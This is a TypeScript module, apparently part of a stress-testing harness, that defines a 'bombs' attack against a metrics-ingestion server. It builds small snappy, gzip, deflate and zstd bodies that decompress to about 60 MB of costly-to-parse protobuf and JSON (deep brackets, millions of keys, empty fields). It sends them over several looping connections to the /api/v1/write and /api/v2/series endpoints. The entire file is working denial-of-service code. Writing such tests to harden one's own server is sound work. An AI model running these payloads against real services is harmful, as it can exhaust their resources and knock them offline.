import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { compressSync } from 'snappy';
import type { Attack } from './attack.ts';
import { requestUntil } from './request.ts';

const RAW_BYTES = 60e6;
const CONNECTIONS = 4;

/** Small bodies that decompress to as much as the limits allow, and that are as costly to read as possible. */
export const bombs: Attack = async (target, signal) => {
  const writes = [
    // A field of number 63 that the protocol does not have, without a value; a series with empty samples.
    filled(Buffer.from([(63 << 2) | 2, 1, 0])),
    filled(Buffer.from([0x0a, 2, 0x12, 0])),
    Buffer.concat([Buffer.from([0x0a, ...varint(RAW_BYTES)]), filled(Buffer.from([0x12, 0]))]),
    Buffer.alloc(RAW_BYTES),
  ].map((raw) => compressSync(raw));
  const point = '{"metric":"bomb","type":1,"points":[{"timestamp":1,"value":1}]}';
  const texts = [
    filled(Buffer.from(' ')),
    Buffer.from(
      `{"series":[${Array(RAW_BYTES / (point.length + 1))
        .fill(point)
        .join(',')}]}`,
    ),
    Buffer.from('['.repeat(RAW_BYTES)),
    Buffer.from(
      `{${Array.from({ length: RAW_BYTES / 16 }, (_, i) => `"k${String(i).padStart(9, '0')}":1`).join(',')}}`,
    ),
  ];
  const payloads = texts.flatMap((text) => [
    ['gzip', gzipSync(text, { level: 1 })] as const,
    ['deflate', deflateSync(text, { level: 1 })] as const,
    ['zstd', zstdCompressSync(text)] as const,
  ]);
  const { httpPort, key } = target;
  const write = async (i: number) => {
    const headers = { 'content-type': 'application/x-protobuf', 'content-encoding': 'snappy', 'dd-api-key': key };
    await requestUntil(signal, { httpPort, path: '/api/v1/write', headers, body: writes[i % writes.length] });
  };
  const post = async (i: number) => {
    const [encoding, body] = payloads[i % payloads.length];
    const headers = { 'content-type': 'application/json', 'content-encoding': encoding, 'dd-api-key': key };
    await requestUntil(signal, { httpPort, path: '/api/v2/series', headers, body });
  };
  const loop = async (send: (i: number) => Promise<void>, first: number) => {
    for (let i = first; !signal.aborted; i++) await send(i);
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, (_, i) => Promise.all([loop(write, i), loop(post, i)])));
};

/** Returns up to `RAW_BYTES` bytes of repetitions of a field. */
function filled(field: Buffer): Buffer {
  return Buffer.alloc(Math.floor(RAW_BYTES / field.length) * field.length, field);
}

function varint(value: number): number[] {
  const bytes: number[] = [];
  let rest = value;
  for (; rest > 127; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128);
  return [...bytes, rest];
}
